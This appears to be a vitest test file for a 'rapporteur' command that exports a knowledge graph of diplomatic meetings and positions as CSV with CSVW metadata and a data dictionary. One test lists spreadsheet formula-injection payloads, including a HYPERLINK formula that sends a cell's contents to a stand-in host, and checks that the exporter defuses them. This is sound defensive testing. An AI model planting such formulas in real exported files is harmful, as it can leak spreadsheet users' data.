// The tables of a graph: what stands in them, that spreadsheets run none of it, and that metadata and dictionary fit.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, it, vi } from 'vitest';
import { toCsvFiles } from '../../src/export/index.ts';
import { folderOf, rapporteur } from '../cli/run.ts';
import { parse, world } from './world.ts';

vi.setConfig({ testTimeout: 60_000 });

type Options = Parameters<typeof toCsvFiles>[1];
const usual: Options = { cells: 'guarded', mark: 'without' };

const toFiles = (turtle: string, options: Options = usual) =>
  new Map(toCsvFiles(parse(turtle), options).map(({ name, text }) => [name, text]));

/** Reads CSV by RFC 4180, without the code under test; fails on what the standard does not have. */
function readCsv(text: string): readonly Readonly<Record<string, string>>[] {
  const records: string[][] = [[]];
  let rest = text;
  while (rest !== '') {
    const [all, quoted, bare = '', end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
    if (all === undefined) throw new Error(`no CSV from ${JSON.stringify(rest.slice(0, 40))}`);
    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    rest = rest.slice(all.length);
    if (end !== ',' && rest !== '') records.push([]);
  }
  const [head = [], ...rows] = records;
  for (const row of rows) expect(row).toHaveLength(head.length);
  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ''])));
}

const readTable = (name: string, turtle = world, options = usual) => readCsv(toFiles(turtle, options).get(name) ?? '');

it('have a row for each fact, with names and IRIs', () => {
  expect(readTable('meetings.csv')).toMatchObject([
    {
      meeting: 'https://example.org/data/meeting/1',
      label: 'Huda Riyami (Oman) and Kari Solberg (Norway), 2031-03-04',
      ...{ kind: 'bilateral', status: 'held', start: '2031-03-04', end: '', date_basis: 'stated' },
      ...{ place: 'Muscat', place_iri: 'https://w3id.org/rapporteur/place/Muscat', place_basis: 'inferred' },
      ...{ parties: 'Norway; Oman', people: 'Huda Riyami; Kari Solberg', articles: 'a; b' },
    },
    { kind: 'multilateral', parties: 'Oman; XY', people: 'Huda Riyami' },
  ]);
  expect(readTable('participations.csv').map(({ party_code, person }) => [party_code, person])).toEqual([
    ['NO', 'Kari Solberg'],
    ['OM', 'Huda Riyami'],
    ['OM', 'Huda Riyami'],
    ['XY', ''],
  ]);
  expect(readTable('positions.csv')).toMatchObject([
    {
      holder: 'Oman',
      issue: 'seabed mining',
      proposition: 'ban on seabed mining',
      stance: 'supports',
      act: 'urges',
      confidence: '0.90',
    },
    { holder: 'Norway', attributed_by: 'Oman', attributed_by_code: 'OM', speaker: '', stated_on: '' },
    { holder: 'Oman', stance: 'opposes', stated_on: '2031-03', date_basis: 'inferred' },
  ]);
  expect(readTable('initiatives.csv')).toMatchObject([{ actor: 'Oman', initiative: 'Quiet Seas', articles: 'a' }]);
});

it('have a row for each quotation, whose words come back letter for letter', () => {
  const rows = readTable('evidence.csv');
  expect(rows.map(({ table }) => table)).toEqual([
    ...['meetings', 'meetings', 'participations', 'participations', 'participations', 'participations'],
    ...['positions', 'positions', 'positions', 'initiatives'],
  ]);
  expect(rows[0]).toMatchObject({
    ...{ article: 'a', headline: 'Huda meets Kari | *again* <now>', published: '2031-03-07', begin: '0', end: '32' },
    ...{ words: 'They met & "talked" <at length>.', url: 'https://example.org/news/a', rules: 'by-hand' },
  });
});

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\n=x', '＝1', '=HYPERLINK("http://example.org/"&A1)'])(
  'give no spreadsheet the formula %j',
  (words) => {
    const turtle = world.replace('"+4 others"', JSON.stringify(words));
    expect(readTable('participations.csv', turtle)[0]?.role).toBe(`'${words}`);
    expect(readTable('participations.csv', turtle, { ...usual, cells: 'raw' })[0]?.role).toBe(words);
  },
);

it('guard a day without a year, which a spreadsheet would compute, and leave other words alone', () => {
  const turtle = world.replace('"2031-03-04"^^xsd:date ; rap:dateBasis "inferred"', '"--03-04"^^xsd:gMonthDay');
  expect(readTable('meetings.csv', turtle)[1]?.start).toBe("'--03-04");
  expect(readTable('evidence.csv')[0]?.publisher).toBe("'=1+1");
  expect(readTable('meetings.csv').map(({ label }) => label)).toEqual([
    expect.stringMatching(/^Huda/),
    expect.stringMatching(/^Huda/),
  ]);
});

it('keep line ends, quotes, commas and blanks at the edges of cells', () => {
  for (const words of ['a, b', 'a "b"', 'a\nb', 'a\r\nb', ' a ', 'a;b', 'Çavuşoğlu 𝕎']) {
    const turtle = world.replace('"+4 others"', JSON.stringify(words));
    expect(readTable('participations.csv', turtle)[0]?.role).toBe(words);
  }
});

it('keep a list apart where a name holds its separator', () => {
  expect(readTable('meetings.csv', world.replace('"Oman"@en', '"Oman; and more"@en'))[0]?.parties).toBe(
    'Norway; Oman, and more',
  );
});

it('begin with a byte order mark only if wanted', () => {
  expect(toFiles(world, { ...usual, mark: 'with' }).get('meetings.csv')).toMatch(/^\ufeffmeeting,/);
  expect(toFiles(world).get('meetings.csv')).toMatch(/^meeting,/);
});

it('have metadata that name the same columns, and keys that hold', () => {
  const files = toFiles(world);
  const metadata = JSON.parse(files.get('csv-metadata.json') ?? '');
  expect(metadata['@context']).toEqual(['http://www.w3.org/ns/csvw', { '@language': 'en' }]);
  for (const { url, tableSchema } of metadata.tables) {
    const rows = readCsv(files.get(url) ?? '');
    const names = tableSchema.columns.map(({ name }: { name: string }) => name);
    expect(Object.keys(rows[0] ?? {})).toEqual(names);
    const keys = rows.map((row) =>
      [tableSchema.primaryKey]
        .flat()
        .map((name) => row[name])
        .join(' '),
    );
    expect(new Set(keys).size).toBe(keys.length);
    for (const { name, datatype, separator, required } of tableSchema.columns) {
      const cells = rows.map((row) => row[name] ?? '').filter((cell) => cell !== '');
      if (required) expect(cells).toHaveLength(rows.length);
      const format = new RegExp(`^(?:${datatype.format ?? (datatype === 'nonNegativeInteger' ? '\\d+' : '[^]*')})$`);
      for (const cell of separator ? cells.flatMap((cell) => cell.split(separator)) : cells)
        expect(cell).toMatch(format);
    }
    for (const { columnReference, reference } of tableSchema.foreignKeys ?? []) {
      const known = readCsv(files.get(reference.resource) ?? '').map((row) => row[reference.columnReference]);
      for (const row of rows) expect(known).toContain(row[columnReference]);
    }
    for (const name of names) expect(files.get('DICTIONARY.md')).toContain(`| \`${name}\` | `);
  }
  expect(metadata.tables).toHaveLength(5);
});

it('have a dictionary that speaks of apostrophes only where there are some', () => {
  const toText = (cells: 'guarded' | 'raw') =>
    toCsvFiles(parse(world), { ...usual, cells }).find(({ name }) => name === 'DICTIONARY.md')?.text;
  expect(toText('guarded')).toContain('begins with an apostrophe instead');
  expect(toText('raw')).not.toContain('apostrophe');
});

it('are the same in whatever order the quads come, and have a head where there are no facts', () => {
  expect(toCsvFiles(parse(world).reverse(), usual)).toEqual(toCsvFiles(parse(world), usual));
  expect(toFiles('').get('meetings.csv')).toMatch(/^meeting,label,[a-z_,]+\r\n$/);
});

it('are written to a folder by rapporteur export csv', async () => {
  const folder = folderOf({ 'out/graph.ttl': '' });
  const { code, stdout, stderr } = await rapporteur(['export', 'csv', '-o', 'tables'], { folder });
  expect(code).toBe(0);
  expect(stderr).toBe('warning out/graph.ttl no-facts: there are no triples; is this what rapporteur build wrote?\n');
  const files = stdout.trim().split('\n');
  expect(files).toContain(path.join('tables', 'csv-metadata.json'));
  for (const file of files) expect(readFileSync(path.join(folder, file), 'utf8')).not.toBe('');
  expect((await rapporteur(['export', 'csv'], { folder })).code).toBe(2);
});
